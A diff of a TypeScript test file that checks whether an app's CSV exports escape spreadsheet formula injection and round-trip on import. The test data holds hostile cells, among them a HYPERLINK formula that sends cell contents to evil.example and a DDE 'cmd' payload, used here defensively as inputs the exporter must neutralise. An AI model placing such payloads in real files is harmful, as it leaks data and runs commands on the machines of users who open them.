@@ -4,27 +4,16 @@
  * numbers, negative ones included, stay numbers; and our own files import back unchanged.
  */
 import { readCsvRows } from "@tsumugi/plan-io";
-import { afterEach, beforeEach, describe, expect, it } from "vitest";
-import { startTestServer, type TestServer } from "../testing/fixtures.js";
-import { seedWorkspaceWorld, type WorkspaceWorld } from "../testing/workspace-world.js";
-
-let server: TestServer;
-let world: WorkspaceWorld;
-
-beforeEach(async () => {
-  server = await startTestServer();
-  world = await seedWorkspaceWorld(server);
-});
-afterEach(async () => {
-  await server.destroy();
-});
+import { describe, expect } from "vitest";
+import type { TestServer } from "../testing/fixtures.js";
+import { workspaceTest as it, type WorkspaceWorld } from "../testing/workspace-world.js";
 
 const HOSTILE = {
   source: '=HYPERLINK("https://evil.example/?"&A1,"出典")',
   note: "+1+cmd|' /C calc'!A0",
 };
 
-async function download(path: string): Promise<string> {
+async function download(server: TestServer, world: WorkspaceWorld, path: string): Promise<string> {
   const res = await fetch(`${server.origin}${world.base}${path}`, {
     headers: { Cookie: world.member.browser.cookie ?? "" },
   });
@@ -33,7 +22,10 @@ async function download(path: string): Promise<string> {
 }
 
 describe("CSV exports", () => {
-  it("write typed text that a spreadsheet would run as text, and keep numbers as numbers", async () => {
+  it("write typed text that a spreadsheet would run as text, and keep numbers as numbers", async ({
+    server,
+    world,
+  }) => {
     const created = await world.admin.browser.post<{ id: string }>(`${world.base}/indicators`, {
       code: "X01",
       name: "@SUM(1+1)*cmd",
@@ -56,13 +48,13 @@ describe("CSV exports", () => {
     );
     expect(put.status).toBe(200);
 
-    const values = await download("/indicators/export.csv");
+    const values = await download(server, world, "/indicators/export.csv");
     const line = values.split("\r\n").find((l) => l.startsWith("X01,"));
     // Every hostile cell starts with an apostrophe inside quotes; the numbers are bare.
     expect(line).toBe(
       `X01,"'@SUM(1+1)*cmd",2023,,-5,,,-1.5,"'=HYPERLINK(""https://evil.example/?""&A1,""出典"")","'+1+cmd|' /C calc'!A0"`,
     );
-    const definitions = await download("/indicators/definitions.csv");
+    const definitions = await download(server, world, "/indicators/definitions.csv");
     expect(definitions.split("\r\n").find((l) => l.startsWith("X01,"))).toBe(
       `X01,"'@SUM(1+1)*cmd",P,点,score,none,up,"'-2+3","'=1+1",,,0,`,
     );
@@ -72,7 +64,7 @@ describe("CSV exports", () => {
     }
   });
 
-  it("import back what they exported, hostile text included", async () => {
+  it("import back what they exported, hostile text included", async ({ server, world }) => {
     const list = await world.admin.browser.get<{ indicators: { id: string; code: string }[] }>(
       `${world.base}/indicators`,
     );
@@ -82,7 +74,7 @@ describe("CSV exports", () => {
       value: 12,
       ...HOSTILE,
     });
-    const rows = readCsvRows(await download("/indicators/export.csv"));
+    const rows = readCsvRows(await download(server, world, "/indicators/export.csv"));
     const preview = await world.admin.browser.post<{
       rows: { code: string; source: string; note: string; value: number }[];
       issues: unknown[];
